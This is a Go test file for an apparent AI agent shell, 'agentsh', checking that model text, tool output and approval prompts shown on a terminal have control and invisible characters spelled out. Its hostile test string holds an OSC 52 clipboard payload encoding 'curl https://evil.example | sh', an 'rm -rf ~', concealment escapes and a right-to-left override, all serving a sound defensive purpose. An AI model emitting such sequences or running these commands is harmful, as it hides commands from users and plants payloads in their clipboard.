//go:build unix

package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/creack/pty"

	"github.com/agentsh/agentsh/internal/testwait"
)

// hostile is what a model or a tool may write to take over a terminal:
// OSC 52 (set the clipboard to curl … | sh), SGR 8 (conceal what
// follows), clear the screen and home the cursor, a right-to-left
// override, a zero-width space and tag characters (text no one sees).
const (
	hostileStar = `"\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07\x1b[8m\x1b[2J\x1b[Hrm -rf ~\u202etxt.exe\u202c\u200b\U000e0041\U000e0042"`
	hostile     = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\a\x1b[8m\x1b[2J\x1b[Hrm -rf ~\u202etxt.exe\u202c\u200b\U000e0041\U000e0042"
	// spelledHostile is how the terminal shows it.
	spelledHostile = `\u{1b}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u{7}\u{1b}[8m\u{1b}[2J\u{1b}[Hrm -rf ~\u{202e}txt.exe\u{202c}\u{200b}\u{e0041}\u{e0042}`
)

// assertNoRaw fails if shown holds a piece of hostile as it is.
func assertNoRaw(t *testing.T, what, shown string) {
	t.Helper()
	for _, raw := range []string{"\x1b]", "\x1b[8m", "\x1b[2J", "\x1b[H", "\a", "\u202e", "\u202c", "\u200b", "\U000e0041", "\U000e0042"} {
		if strings.Contains(shown, raw) {
			t.Errorf("%s reaches the terminal with %q raw:\n%q", what, raw, shown)
		}
	}
}

// The REPL shows what the model and its tools wrote spelled out: the
// model's text as it streams, a tool's output, a tool's error, and the
// approval prompt after them, which stays intact and shows the diff of
// the file the call would change.
func TestREPLOutputIsTerminalSafe(t *testing.T) {
	if testing.Short() {
		t.Skip("drives a terminal session")
	}
	dir := t.TempDir()
	writeTestFile(t, filepath.Join(dir, "src", "main.go"), "package main\n\nfunc main() {}\n")
	model := `
EVIL = ` + hostileStar + `

def echo(args):
    return "tool says " + args["text"]

def broken(args):
    fail("broken says " + EVIL)

tool(name = "echo", fn = echo, read_only = True)
tool(name = "broken", fn = broken, read_only = True)

def scripted(messages, tools):
    last = messages[-1]
    if last["role"] == "tool":
        return "model says " + EVIL + " end"
    if last["content"] == "edit":
        return {"tool_calls": [{"name": "edit_file", "args": {"path": "\"src\\57main.go\"", "old_string": "func main() {}", "new_string": "func main() {} // " + EVIL}}]}
    return {"content": "thinking " + EVIL, "tool_calls": [{"name": "echo", "args": {"text": EVIL}}, {"name": "broken", "args": {}}]}

model(scripted)
print("printed " + EVIL)
`
	writeTestFile(t, filepath.Join(dir, "model.star"), model)
	tm := startTerminal(t, dir, "--workdir", dir, "--load", "model.star")
	shown := tm.expect(">>> ")
	assertNoRaw(t, "a script's print", shown)
	if !strings.Contains(shown, "printed "+spelledHostile) {
		t.Errorf("the print is not spelled out:\n%q", shown)
	}

	tm.send(":ask show\r")
	shown = tm.expect("model says ")
	shown += tm.expect(" end")
	shown += tm.expect(">>> ")
	assertNoRaw(t, "the model's text and the tools' output", shown)
	for _, want := range []string{"thinking " + spelledHostile, "[echo] tool says " + spelledHostile,
		"[broken] error (failed): ", "broken says " + spelledHostile, "model says " + spelledHostile + " end"} {
		if !strings.Contains(shown, want) {
			t.Errorf("the terminal lacks %q:\n%q", want, shown)
		}
	}
	tm.send("print(\"still\" + \" here\")\r")
	tm.expect("still here")
	tm.expect(">>> ")

	// The approval prompt: the diff of src/main.go, whatever the path's
	// spelling, its new line spelled out, and the prompt line intact.
	tm.send(":ask edit\r")
	shown = tm.expect("allow edit_file? y once, a always this session, n no: ")
	assertNoRaw(t, "the approval prompt", shown)
	for _, want := range []string{"the model wants to run edit_file", "--- a/src/main.go", "+++ b/src/main.go",
		"-func main() {}", "+func main() {} // " + spelledHostile} {
		if !strings.Contains(shown, want) {
			t.Errorf("the prompt lacks %q:\n%q", want, shown)
		}
	}
	tm.send("n\r")
	tm.expect("reason for the model (optional): ")
	tm.send("no\r")
	tm.expect("model says ")
	tm.expect(">>> ")
	if b, _ := os.ReadFile(filepath.Join(dir, "src", "main.go")); string(b) != "package main\n\nfunc main() {}\n" {
		t.Errorf("src/main.go = %q after n", b)
	}
	tm.send("\x04")
	select {
	case <-tm.done:
	case <-time.After(testwait.Step):
		t.Fatal("agentsh did not exit on Ctrl-D")
	}
}

// agentsh call and explain spell out what they print on a terminal; into
// a pipe, call prints the tool's output byte for byte.
func TestCallAndExplainOnATerminal(t *testing.T) {
	if testing.Short() {
		t.Skip("drives a terminal")
	}
	dir := t.TempDir()
	policy := `
def echo(args):
    return args["text"]

tool(name = "echo", fn = echo)

def refuse(call):
    if "&&" in call.args.get("text", ""):
        return deny("refused " + call.args["text"])
before(refuse, tools = ["echo"])
`
	writeTestFile(t, filepath.Join(dir, "policy.star"), policy)
	args := `{"text": ` + jsonString(hostile) + `}`

	tm := startTerminal(t, dir, "--no-builtins", "--load", "policy.star", "call", "echo", args)
	shown := tm.expect(`\u{e0042}`)
	<-tm.done
	assertNoRaw(t, "agentsh call", shown)
	if !strings.Contains(shown, spelledHostile) {
		t.Errorf("agentsh call shows %q, want %q", shown, spelledHostile)
	}

	cmd := exec.Command(os.Args[0], "--no-builtins", "--load", "policy.star", "call", "echo", args)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "AGENTSH_MAIN=1")
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	if string(out) != hostile+"\n" {
		t.Errorf("agentsh call into a pipe printed %q, want the output byte for byte", out)
	}

	denied := `{"text": ` + jsonString("make && "+hostile) + `}`
	tm = startTerminal(t, dir, "--no-builtins", "--load", "policy.star", "explain", "echo", denied)
	shown = tm.expect("denied by refuse at policy.star:")
	shown += tm.expect(`\u{e0042}` + "\r\n")
	<-tm.done
	assertNoRaw(t, "agentsh explain", shown)
	// The arguments are JSON, with JSON's escapes for control characters;
	// what JSON leaves as it is is spelled out.
	argsShown := `arguments: {"text":"make && \u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007\u001b[8m\u001b[2J\u001b[Hrm -rf ~\u{202e}txt.exe\u{202c}\u{200b}\u{e0041}\u{e0042}"}`
	for _, want := range []string{argsShown, "refused make && " + spelledHostile} {
		if !strings.Contains(shown, want) {
			t.Errorf("explain lacks %q:\n%q", want, shown)
		}
	}
}

// Only terminals that show text to a person are spelled out: pipes and
// files, --json's events and the protocol streams of mcp serve and hook
// get every byte.
func TestSafeTerminals(t *testing.T) {
	ptm, tty, err := pty.Open()
	if err != nil {
		t.Skipf("no pseudo-terminal: %v", err)
	}
	defer ptm.Close()
	defer tty.Close()
	pipe, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer pipe.Close()
	for _, tt := range []struct {
		args     []string
		out, err bool // spelled out on a terminal
	}{
		{[]string{"call", "x"}, true, true},
		{[]string{"explain", "x"}, true, true},
		{[]string{"-c", "1"}, true, true},
		{[]string{"run", "x.star"}, true, true},
		{[]string{"ask", "hi"}, true, true},
		{[]string{"test"}, true, true},
		{[]string{}, true, true},
		{[]string{"--json", "call", "x"}, false, true},
		{[]string{"mcp", "serve"}, false, true},
		{[]string{"--json", "mcp", "serve"}, false, false},
		{[]string{"hook", "claude-code"}, false, true},
	} {
		o, err := parseArgs(tt.args)
		if err != nil {
			t.Fatal(err)
		}
		std := safeTerminals(stdio{out: tty, err: tty}, o)
		if _, ok := std.out.(*ttyWriter); ok != tt.out {
			t.Errorf("%q: stdout spelled out %v, want %v", tt.args, ok, tt.out)
		}
		if _, ok := std.err.(*ttyWriter); ok != tt.err {
			t.Errorf("%q: stderr spelled out %v, want %v", tt.args, ok, tt.err)
		}
		if std := safeTerminals(stdio{out: pipe, err: pipe}, o); std.out != pipe || std.err != pipe {
			t.Errorf("%q: a file was spelled out; only terminals are", tt.args)
		}
	}
}

func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}
